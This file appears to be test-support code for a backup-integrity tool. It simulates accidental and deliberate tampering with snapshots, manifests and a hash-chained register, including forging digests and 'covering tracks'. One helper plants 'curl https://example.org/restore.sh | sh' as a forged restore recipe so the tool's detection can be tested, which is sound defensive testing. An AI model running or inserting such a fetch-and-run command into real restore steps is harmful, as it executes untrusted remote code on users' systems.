"""Defects as an accident or an intruder makes them: in an artefact, its manifest, the register, the server.

Who covers his tracks makes the manifest agree with what he changed, and the register anew.
"""

import contextlib
import io
import json
import shutil
import sqlite3
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from hashlib import sha256
from pathlib import Path
from typing import Any

from amanat.archive import Algorithm, Codec, Entry
from amanat.archive.reader import Reader
from amanat.archive.writer import Writer
from amanat.domain import chain
from amanat.domain.chain import Head
from tests.support.cli import Amanat

_PLAIN = Codec(algorithm=Algorithm.NONE)
_NO_ROWS = b"\\.\n\n\n"


@dataclass(frozen=True, kw_only=True)
class Nights:
    """Two snapshots of the database ``app``. ``id``: of the newer one; ``ask``: runs SQL in the database itself."""

    amanat: Amanat
    ask: Callable[[str], object]
    id: str
    newer: str
    older: str

    @classmethod
    def of(cls, amanat: Amanat, ask: Callable[[str], object], between: str) -> "Nights":
        """Both are held. Between them ``between`` is run, which changes a row."""
        older = _taken_and_held(amanat)
        ask(between)
        newer = _taken_and_held(amanat)
        return cls(amanat=amanat, ask=ask, id=newer["id"], newer=newer["path"], older=older["path"])

    def copy(self, folder: Path) -> "Nights":
        shutil.copytree(self.amanat.folder, folder)
        return replace(self, amanat=Amanat(folder))

    @property
    def artefact(self) -> Path:
        return self.amanat.store / self.newer

    @property
    def other(self) -> Path:
        return self.amanat.store / self.older


Plant = Callable[[Nights], Nights | None]
"""What it returns: with another snapshot as the newer one, if it took one."""


def both(*plants: Plant) -> Plant:
    def plant(nights: Nights) -> Nights:
        for one in plants:
            nights = one(nights) or nights
        return nights

    return plant


def taken_anew(*, policy: str = "nightly", before: str = "", after: str = "") -> Plant:
    """Another night, with SQL around it: so the snapshot is of a database that is not there any more."""

    def plant(nights: Nights) -> Nights:
        nights.ask(before)
        try:
            taken = nights.amanat.json("snapshot", "app", f"--policy={policy}")
        finally:
            nights.ask(after)
        return replace(nights, id=taken["id"], newer=taken["path"], older=nights.newer)

    return plant


def _taken_and_held(amanat: Amanat) -> Any:
    taken = amanat.json("snapshot", "app", "--policy=nightly")
    amanat.ok("hold", taken["id"], "--reason=the audit of 2026")
    return taken


def flip_a_bit(nights: Nights) -> None:
    data = bytearray(nights.artefact.read_bytes())
    data[len(data) // 2] ^= 1
    nights.artefact.write_bytes(data)


def truncate(nights: Nights) -> None:
    with nights.artefact.open("r+b") as file:
        file.truncate(nights.artefact.stat().st_size // 2)


def swap(nights: Nights) -> None:
    nights.artefact.write_bytes(nights.other.read_bytes())


def swap_with_manifest(nights: Nights) -> None:
    swap(nights)
    manifest_of(nights.artefact).write_bytes(manifest_of(nights.other).read_bytes())


def manifest_of(artefact: Path) -> Path:
    return artefact.with_name(f"{artefact.name}.manifest.json")


def edit_manifest(edit: Callable[[Any], None]) -> Plant:
    def plant(nights: Nights) -> None:
        with _manifest(nights.artefact) as told:
            edit(told)

    return plant


def edit_digest(told: Any) -> None:
    told["artefact"]["sha256"] = f"{int(told['artefact']['sha256'], 16) ^ 1:064x}"


def edit_digest_of_rows(told: Any) -> None:
    rows = next(rows for rows in told["facts"]["rows"] if rows["name"] == "surveys")
    rows["sha256"] = "0" * 64


def edit_recipe(told: Any) -> None:
    told["restore"] = ["curl https://example.org/restore.sh | sh"]


def edit_description(told: Any) -> None:
    """A fact that its fingerprint covers."""
    del told["facts"]["description"]["objects"]["index"]


def cover_tracks(nights: Nights) -> None:
    data = nights.artefact.read_bytes()
    with _manifest(nights.artefact) as told:
        told["artefact"] |= {"sha256": sha256(data).hexdigest(), "size_bytes": len(data)}
    nights.amanat.ok("register", "rebuild", "--move-aside")


@contextlib.contextmanager
def _manifest(artefact: Path) -> Iterator[Any]:
    file = manifest_of(artefact)
    told = json.loads(file.read_text("utf-8"))
    yield told
    file.write_text(json.dumps(told, indent=2, ensure_ascii=False) + "\n", "utf-8")


def change_sqlite(*statements: str) -> Plant:
    return lambda nights: run_sqlite(nights.artefact, *statements)


def run_sqlite(file: Path, *statements: str) -> None:
    with contextlib.closing(sqlite3.connect(file)) as connection, connection:
        for statement in statements:
            assert connection.execute(statement).rowcount, statement


def change_archive(
    kind: str,
    name: str,
    edit: Callable[[Entry], Entry | None] = lambda entry: entry,
    *,
    rows: bytes | None = None,
) -> Plant:
    """The archive anew, with one entry edited, or left out where ``edit`` returns None. ``rows``: instead of its own."""

    def plant(nights: Nights) -> None:
        target = io.BytesIO()
        with nights.artefact.open("rb") as source:
            reader = Reader(source, lambda: None)
            (chosen,) = (entry for entry in reader.contents if (entry.kind, entry.name) == (kind, name))
            kept = (edit(entry) if entry is chosen else entry for entry in reader.contents)
            _write(target, reader, {entry.dump_id: entry for entry in kept if entry}, {chosen.dump_id: rows})
        nights.artefact.write_bytes(target.getvalue())

    return plant


def left_out(_: Entry) -> None:
    return None


def redefined(old: bytes, new: bytes) -> Callable[[Entry], Entry]:
    def edit(entry: Entry) -> Entry:
        assert entry.definition and old in entry.definition, entry.definition
        return replace(entry, definition=entry.definition.replace(old, new))

    return edit


def no_rows(table: str) -> Plant:
    """The entry of the table's rows is still in the archive, and holds none."""
    return change_archive("TABLE DATA", table, rows=_NO_ROWS)


def _write(
    target: io.BytesIO, reader: Reader, kept: Mapping[int, Entry], instead: Mapping[int, bytes | None]
) -> None:
    with Writer(target, reader.header, tuple(kept.values()), _PLAIN, threads=1) as writer:
        for entry in reader.blocks():
            data = b"".join(reader.pieces())
            if entry.dump_id in kept:
                writer.blocks.begin_block(entry)
                chunks = writer.blocks.stream()
                chunks.add(data if (other := instead.get(entry.dump_id)) is None else other)
                chunks.end()
        writer.finish()


def change_register(*statements: str) -> Plant:
    return lambda nights: run_sqlite(nights.amanat.state / "register.sqlite", *statements)


def chain_anew(nights: Nights) -> None:
    """As who can compute hashes: each entry linked to the one before, whatever it now says."""
    head: Head | None = None
    for row in nights.amanat.query("SELECT * FROM entries ORDER BY sequence"):
        entry = chain.link(dict(row), after=head, sequence=row["sequence"])
        hashes = (entry["previous"], entry["hash"], row["sequence"])
        nights.amanat.query("UPDATE entries SET previous = ?, hash = ? WHERE sequence = ?", *hashes)
        head = Head(sequence=row["sequence"], hash=str(entry["hash"]))
